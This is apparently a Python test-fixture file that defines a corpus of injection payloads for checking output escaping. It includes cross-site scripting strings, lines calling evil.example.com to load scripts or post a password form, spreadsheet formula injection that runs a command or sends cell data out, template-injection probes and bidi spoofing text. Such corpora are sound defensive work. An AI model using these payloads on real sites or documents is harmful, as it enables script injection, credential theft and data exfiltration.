"""Text that wants to be more than text: what each tries is its first word."""

#: What every hostile text begins with here, so that it is found again on a page.
MARK = "zq"
LONG_WORD = MARK + "w" * 498
#: As long a word as a name may be.
LONG_NAME = MARK + "w" * 198

CORPUS: dict[str, str] = {
    "script": "<script>alert('zq')</script>",
    "script-capitals": "<ScRiPt>alert('zq')</sCrIpT>",
    "script-nested": "<scr<script>ipt>alert('zq')</scr</script>ipt>",
    "script-slash": "<script/src=//evil.example.com/x.js></script>",
    "script-import": "<script type=module>import('//evil.example.com/x.js')</script>",
    "script-half": "<script>alert('zq')",
    "image": "<img src=x onerror=alert('zq')>",
    "image-quoted": '"><img src="x" onerror="alert(\'zq\')">',
    "image-single": "'><img src='x' onerror='alert(1)'>",
    "image-beacon": '<img src="https://evil.example.com/seen.png">',
    "image-unclosed": "<img src='https://evil.example.com/?",
    "attribute": '" onmouseover="alert(\'zq\')" x="',
    "attribute-single": "' onfocus='alert(1)' autofocus='",
    "attribute-bare": "x onclick=alert(1) autofocus onfocus=alert(1)",
    "attribute-backtick": "`onmouseover=alert(1)`",
    "svg": "<svg onload=alert('zq')>",
    "svg-script": "<svg><script>alert('zq')</script></svg>",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation": '<form><math><mtext></form><form><mglyph><svg><mtext><textarea>'
    '<path id="</textarea><img onerror=alert(1) src=1>">',
    "srcdoc": '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "embed": "<embed src='//evil.example.com/x.swf'>",
    "base": "<base href='https://evil.example.com/'>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example.com/'>",
    "link": "<link rel=stylesheet href='https://evil.example.com/x.css'>",
    "style": "<style>*{background:url('//evil.example.com/x')}body{display:none}</style>",
    "style-attribute": "<p style='position:fixed;inset:0;background:red'>over everything",
    "form": "<form action='https://evil.example.com/'><input name=password><button>Sign in",
    "form-button": "<button formaction='javascript:alert(1)'>Save</button>",
    "details": "<details open ontoggle=alert(1)>",
    "audio": "<audio src=x onerror=alert(1)>",
    "htmx": "<div hx-get='//evil.example.com/' hx-trigger='load' hx-on::load='alert(1)'>",
    "javascript": "javascript:alert('zq')",
    "javascript-tab": "java\tscript:alert('zq')",
    "javascript-link": "<a href='javascript:alert(1)'>your refund</a>",
    "data-link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "markdown": "[your refund](javascript:alert(1)) ![x](https://evil.example.com/x.png)",
    "template": "{{7*7}} {% for x in (1,2) %}y{% endfor %} {{ config }} {{ ''.__class__ }}",
    "template-other": "${7*7} #{7*7} <%= 7*7 %> [[7*7]] $name ${link} %(name)s {0}",
    "json": '</script><script>alert("zq")</script>',
    "json-value": '","role":"admin","x":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    "comment": "<!-- the rest of the page is gone",
    "comment-end": "--><script>alert(1)</script><!--",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "textarea": "</textarea><script>alert('zq')</script>",
    "title": "</title><script>alert('zq')</script>",
    "select": "</option></select><img src=x onerror=alert(1)>",
    "bdi": "</bdi></p></main></body></html><h1>gone",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;amp; &nbsp;",
    "entity-half": "&#x6A&#x61&#x76&#x61script:alert(1) &copy &notit; &",
    "formula": "=HYPERLINK(\"https://evil.example.com/?\"&A1,\"open\")",
    "formula-command": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+1",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "css": "red;}</style><style>body{display:none}",
    "css-url": "background:url(javascript:alert(1));expression(alert(1))",
    "bidi": "\u202egnp.exe \u2066\u2067 \u05e9\u05dc\u05d5\u05dd \u0627\u0644\u0633\u0644\u0627\u0645",
    "bidi-open": "\u202e\u202e\u202e\u2067\u2067 nothing closes these",
    "invisible": "se\u200bn\u200dd\ufeff your\u00ad card",
    "control": "bell \x07 escape \x1b[31m vertical \x0b",
    "null": "nu\x00ll <scr\x00ipt>alert(1)</scr\x00ipt>",
    "separators": "one\u2028two\u2029three\u0085four",
    "overlong": "<" * 60 + "script>alert(1)",
    "stacked": "Z" + "\u0301\u0323\u0330" * 40,
}  # fmt: skip
#: The first word of what is shown in place of its name is its mark; no text begins with a spreadsheet's sign then.
PAYLOADS: tuple[str, ...] = tuple(f"{MARK} {text}" for text in CORPUS.values())
#: One of each sort, for where a page takes time.
FEW: tuple[str, ...] = tuple(
    f"{MARK} {CORPUS[name]}"
    for name in (
        "script", "image-quoted", "attribute", "svg", "mutation", "srcdoc", "frame", "base", "style", "form",
        "htmx", "javascript-link", "template", "json", "comment", "textarea", "entity", "bidi", "bidi-open", "null",
    )
)  # fmt: skip
#: A picture that would do something if it were let.
EVIL_PICTURE = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="alert('zq')">
<script>alert('zq')</script><image href="https://evil.example.com/x.png"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example.com/"/></foreignObject>
<rect width="9" height="9" onclick="alert('zq')"/></svg>
"""
